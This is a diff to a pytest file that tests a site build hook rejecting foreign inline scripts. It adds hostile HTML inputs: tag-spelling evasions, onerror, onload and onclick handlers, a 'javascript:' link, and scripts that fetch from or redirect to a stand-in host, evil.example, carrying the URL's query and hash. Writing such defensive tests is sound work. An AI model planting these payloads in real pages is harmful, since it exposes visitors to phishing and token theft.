@@ -249,9 +249,30 @@ def test_only_the_themes_own_inline_scripts_are_moved_out_of_a_page():
         "<script>window.hit=1</script>",
         '<script>__md_scope=new URL("x",location);fetch("//evil")</script>',  # the theme's start, more after it
         '<script type="module">import("./x.js")</script>',
+        # issue 26, attacked again: other spellings of the tag, and a theme script with another host in its slot
+        "<script >window.hit=1</script>",
+        "<SCRIPT>window.hit=1</SCRIPT>",
+        "<script type=module>window.hit=1</script>",
+        "<script defer>window.hit=1</script >",
+        '<script type="text/javascript" async>window.hit=1</script>',
+        "<svg><script>window.hit=1</script></svg>",
+        '<script>var el=document.querySelector("[data-md-component=outdated]"),base=new URL("https://evil.example/"),'
+        'outdated=__md_get("__outdated",sessionStorage,base);!0===outdated&&el&&(el.hidden=!1)</script>',
+        '<script>window.location.replace(["https://evil.example/login",window.location.search,'
+        'window.location.hash].join(""))</script>',
     ):
         with pytest.raises(hooks.ForeignScript, match="不是主题写的内联脚本"):
             hooks.external_scripts(f"<body>{theme}{foreign}</body>", "a/b.html", {}, allowed)
+    for foreign, what in (
+        ('<img src="x" onerror="window.hit=1">', "事件处理属性"),
+        ("<body onload=window.hit=1>", "事件处理属性"),
+        ('<a title="a > b" href="#" onclick="x()">', "事件处理属性"),
+        ('<a href=" javascript:alert(1)">', "javascript: 地址"),
+    ):
+        with pytest.raises(hooks.ForeignScript, match=what):
+            hooks.external_scripts(f"<body>{theme}{foreign}</body>", "a/b.html", {}, allowed)
+    text = '<p title="工作 onboard=1">负责 online=1 的工作</p>'  # words in text and attribute values are not handlers
+    assert hooks.external_scripts(text, "a/b.html", {}, allowed) == text
     data = '<script type="application/json" id="cadres-roster-data">{"a": 1}</script>'
     assert hooks.external_scripts(data, "a/b.html", {}, allowed) == data  # data is never run, and stays
 
